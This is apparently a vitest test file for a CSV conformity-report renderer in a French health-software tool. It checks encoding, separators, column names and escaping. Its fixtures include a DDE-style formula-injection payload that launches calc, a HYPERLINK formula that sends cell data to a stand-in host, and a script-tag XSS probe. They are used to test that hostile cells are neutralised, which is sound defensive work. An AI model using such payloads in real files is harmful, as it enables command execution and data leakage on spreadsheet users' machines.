import { describe, expect, it } from 'vitest';
import { render } from '../../src/report/formats/csv.js';
import { fixtureContext } from './fixture-context.js';

const sha = (char: string): string => char.repeat(64);

describe('csv report', () => {
  // The record layout is checked with commas; the separator itself below.
  const csv = render(fixtureContext({ csvSeparator: ',' }));

  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    expect(csv.startsWith('\uFEFFPérimètre,ID,Chapitre,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/"[^"]*"/g, '').match(/\n/g)?.length).toBe(csv.replace(/"[^"]*"/g, '').match(/\r\n/g)?.length);
  });

  it('writes one record per expected proof, Convergence columns first (exact content)', () => {
    const ins = 'Vague 1,INS/va1.01,Gestion de l’INS,Appel au téléservice INSi,Le LGC DOIT appeler le téléservice INSi.,Général,INS/va1.01.01,Rechercher l’INS d’un patient.';
    const dmp = 'Vague 1,DMP/va1.01,Alimentation du DMP,Envoi d’un document au DMP,Le LGC DOIT alimenter le DMP.,Général';
    expect(csv.slice(1).split('\r\n')).toEqual([
      'Périmètre,ID,Chapitre,Fonction,Exigence,Profil,N° scénario,Scénario de conformité,N° preuve,Preuve,Fichier(s),SHA-256,Taille (octets),Statut de la preuve,Verdict,Constats',
      `${ins},INS/va1.01.01.01,Capture d’écran de l’appel INSi,proofs/INS_va1.01.01.01/capture.png,${sha('a')},2048,fournie,Conforme,`,
      `${ins},INS/va1.01.01.02,Réponse INSi enregistrée,"proofs/INS_va1.01.01.02/reponse.xml\nproofs/INS_va1.01.01.02/requête.xml","${sha('b')}\n${sha('c')}","512\n256",fournie,Conforme,`,
      'Vague 1,INS/va1.02,Gestion de l’INS,Qualification de l’identité,Le LGC DOIT qualifier l’identité <script>alert(1)</script> avant tout échange.,Général,' +
        `INS/va1.02.01,Produire un CDA portant l’INS qualifiée.,INS/va1.02.01.01,Document CDA,proofs/INS_va1.02.01.01/cda.xml,${sha('d')},4096,en erreur,Non conforme,` +
        '"[erreur] realmCode absent ou différent de « FR » — proofs/INS_va1.02.01.01/cda.xml:3 (/ClinicalDocument/realmCode)\n' +
        '[avertissement] OID d’INS inattendu : 1.2.3 & <b> — proofs/INS_va1.02.01.01/cda.xml (/ClinicalDocument/recordTarget)"',
      `${dmp},DMP/va1.01.01,Envoyer un document.,DMP/va1.01.01.01,Document CDA envoyé au DMP,proofs/DMP_va1.01.01.01/doc.xml,${sha('e')},100,fournie,Incomplet,`,
      `${dmp},DMP/va1.01.01,Envoyer un document.,DMP/va1.01.01.02,Rapport de validation EVS,,,,manquante,Incomplet,[erreur] Preuve DMP/va1.01.01.02 : aucun fichier`,
      `${dmp},DMP/va1.01.02,Remplacer un document.,DMP/va1.01.02.01,Capture d’écran,,,,non applicable,Incomplet,Scénario non applicable : rien à déposer`,
      'Vague 1,ERGO/va1.05,Gestion et partage des documents,Aperçu avant envoi,"\'=HYPERLINK(""http://exemple.invalid/?x=""&A1,""Cliquez ici"")",Général,' +
        'ERGO/va1.05.01,Montrer l’aperçu.,ERGO/va1.05.01.01,Vidéo de démonstration,,,,non applicable,Non applicable,Exigence déclarée non applicable : rien à déposer',
      '',
    ]);
  });

  it('neutralises every text cell that could start a formula', () => {
    const hostile = fixtureContext({
      csvSeparator: ',',
      catalog: {
        ...fixtureContext().catalog,
        requirements: fixtureContext().catalog.requirements.map((requirement) => ({ ...requirement, function: '@SUM(1+1)*cmd|" /C calc"!A0', chapter: '-1+1' })),
      },
    });
    const records = render(hostile).slice(1).split('\r\n').slice(1, -1);
    for (const record of records) expect(record).toMatch(/^Vague 1,[^,]+,'-1\+1,"'@SUM\(1\+1\)\*cmd\|"" \/C calc""!A0",/);
  });

  it('separates fields with ";" in French (what French-locale Excel splits on), quoting a cell that holds one', () => {
    const french = render(fixtureContext());
    expect(french.split('\r\n')[0]).toBe(
      '\uFEFFPérimètre;ID;Chapitre;Fonction;Exigence;Profil;N° scénario;Scénario de conformité;N° preuve;Preuve;Fichier(s);SHA-256;Taille (octets);Statut de la preuve;Verdict;Constats',
    );
    // A statement with a comma stays unquoted; one with a semicolon is quoted.
    expect(french).toContain(';Rechercher l’INS d’un patient.;');
    const withSemicolon = fixtureContext({
      catalog: { ...fixtureContext().catalog, requirements: fixtureContext().catalog.requirements.map((requirement) => ({ ...requirement, function: 'a;b, c' })) },
    });
    expect(render(withSemicolon).split('\r\n')[1]).toContain(';"a;b, c";');
  });

  it('uses "," in English and the separator asked for otherwise (tab)', () => {
    expect(render(fixtureContext({ lang: 'en' })).split('\r\n')[1]!.startsWith('Vague 1,INS/va1.01,')).toBe(true);
    expect(render(fixtureContext({ csvSeparator: '\t' })).split('\r\n')[1]!.startsWith('Vague 1\tINS/va1.01\t')).toBe(true);
  });

  it('uses the English column names with --lang en', () => {
    expect(render(fixtureContext({ lang: 'en' })).split('\r\n')[0]).toBe(
      '\uFEFFScope,ID,Chapter,Function,Requirement,Profile,Scenario no.,Conformity scenario,Proof no.,Proof,File(s),SHA-256,Size (bytes),Proof status,Verdict,Findings',
    );
  });
});
